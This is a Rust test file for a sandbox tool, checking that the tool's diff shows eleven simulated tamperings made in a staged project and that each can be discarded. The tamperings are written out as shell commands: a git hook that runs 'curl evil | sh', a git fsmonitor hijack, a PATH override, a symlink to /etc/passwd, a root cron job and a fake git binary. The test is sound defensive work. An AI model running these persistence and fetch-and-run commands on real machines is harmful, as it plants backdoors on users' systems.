//! Damages that a task does not show, each of which a user sees in `msb diff`, and takes back by itself.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use anyhow::{Context as _, Result, ensure};
use test_support::{TestEnv, expect_code};

use super::durability::remove;
use super::host_directory::HostDirectory;
use super::snapshots::told;

const NAME: &str = "checks-damages";
/// The files that are damaged, and those beside them.
const FILES: &str = "cd / && find work etc/profile etc/cron.d usr/local/bin | sort && \
    find work etc/profile etc/cron.d usr/local/bin -type f -exec sha256sum {} + | sort";

/// A damage: the command that does it, its lines of `msb diff`, and the path that is discarded.
struct Damage {
    command: &'static str,
    lines: &'static [&'static str],
    path: &'static str,
}

const fn damage(
    command: &'static str,
    lines: &'static [&'static str],
    path: &'static str,
) -> Damage {
    Damage {
        command,
        lines,
        path,
    }
}

/// The kinds of damage: in the repository, in files that make programs of the host run commands, in the project's
/// own files, and outside of the project.
const DAMAGES: [Damage; 11] = [
    damage(
        "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        &["A /work/.git/hooks/pre-commit"],
        "/work/.git/hooks",
    ),
    damage(
        "printf '[core]\\n\\tfsmonitor = ./evil\\n' > .git/config",
        &["C /work/.git/config"],
        "/work/.git/config",
    ),
    damage(
        "mkdir .vscode && echo '{\"tasks\": []}' > .vscode/tasks.json",
        &["A /work/.vscode", "A /work/.vscode/tasks.json"],
        "/work/.vscode",
    ),
    damage(
        "echo 'export PATH=/tmp/evil:$PATH' > .envrc",
        &["A /work/.envrc"],
        "/work/.envrc",
    ),
    damage("echo TOKEN=stolen > .env", &["A /work/.env"], "/work/.env"),
    damage(
        "ln -s /etc/passwd src/data",
        &["A /work/src/data"],
        "/work/src/data",
    ),
    damage(
        ": > src/tax.py",
        &["C /work/src/tax.py"],
        "/work/src/tax.py",
    ),
    damage("rm README", &["D /work/README"], "/work/README"),
    damage(
        "echo 'export EVIL=1' >> /etc/profile",
        &["C /etc/profile"],
        "/etc/profile",
    ),
    damage(
        "echo '* * * * * root evil' > /etc/cron.d/evil",
        &["A /etc/cron.d/evil"],
        "/etc/cron.d",
    ),
    damage(
        "echo evil > /usr/local/bin/git && chmod +x /usr/local/bin/git",
        &["A /usr/local/bin/git"],
        "/usr/local/bin/git",
    ),
];

/// Checks that each damage is seen, that none reaches the host by itself, and that each is discarded without the others.
pub(super) fn seen_and_discarded(env: &TestEnv) -> Result<()> {
    let host = HostDirectory::new(env)?;
    let project = host.0.join("project");
    make(&project)?;
    let before = host.dump("project")?;
    let mount = format!("{}:/work:staged", project.display());
    let start = || {
        let _ = remove(env, NAME);
        let own = ["-d", "--name", NAME, "--network", "none", "-v", &mount];
        env.run_command(&own, &["sleep", "infinity"])
    };
    expect_code(&env.retried(start, &[])?, 0)?;
    let begun = files(env)?;
    let mut left: BTreeSet<String> = BTreeSet::new();
    for Damage { command, lines, .. } in &DAMAGES {
        let words = ["exec", "-w", "/work", NAME, "sh", "-c", command];
        told(env, &words)?;
        left.extend(lines.iter().map(|line| (*line).to_owned()));
        let seen = diff(env)?;
        ensure!(seen == left, "after {command}: {seen:?}");
    }
    kept_back(env, &project)?;
    told(env, &["stop", "-t", "0", NAME])?;
    for Damage { lines, path, .. } in &DAMAGES {
        told(env, &["discard", NAME, path])?;
        left.retain(|line| !lines.contains(&line.as_str()));
        let seen = diff(env)?;
        ensure!(seen == left, "without {path}: {seen:?}");
    }
    ensure!(left.is_empty(), "{left:?}");
    told(env, &["start", NAME])?;
    let found = files(env)?;
    ensure!(found == begun, "{found}\n{begun}");
    ensure!(
        before == host.dump("project")?,
        "the host's files were changed"
    );
    told(env, &["rm", "-f", NAME]).map(drop)
}

/// Makes the project that is staged.
fn make(project: &Path) -> Result<()> {
    for directory in ["src", ".git/hooks"] {
        fs::create_dir_all(project.join(directory))?;
    }
    for (name, content) in [
        (".env", "TOKEN=abc\n"),
        (".git/config", "[core]\n\tbare = false\n"),
        ("README", "A shop\n"),
        ("src/tax.py", "RATE = 19\n"),
    ] {
        fs::write(project.join(name), content)?;
    }
    Ok(())
}

/// Checks that an apply would bring home only what no program of the host runs.
fn kept_back(env: &TestEnv, project: &Path) -> Result<()> {
    let planned = told(env, &["apply", "-n", NAME])?;
    let lines: Vec<&str> = planned.lines().collect();
    let of = |letter: char, name: &str| format!("{letter} {}", project.join(name).display());
    let applied = [
        of('D', "README"),
        of('A', "src/data"),
        of('C', "src/tax.py"),
    ];
    let (kept, home): (Vec<&str>, Vec<&str>) =
        lines.iter().partition(|line| line.starts_with("R "));
    ensure!(home == applied, "{planned}");
    for (name, line) in [".env", ".envrc", ".vscode"].iter().zip(&kept) {
        let is_named = line.starts_with(&format!("{} (", of('R', name)));
        ensure!(is_named, "{name}: {planned}");
    }
    ensure!(kept.len() == 3, "{planned}");
    Ok(())
}

fn files(env: &TestEnv) -> Result<String> {
    told(env, &["exec", NAME, "sh", "-c", FILES]).context("cannot list the files")
}

fn diff(env: &TestEnv) -> Result<BTreeSet<String>> {
    let lines = told(env, &["diff", NAME])?;
    Ok(lines.lines().map(str::to_owned).collect())
}
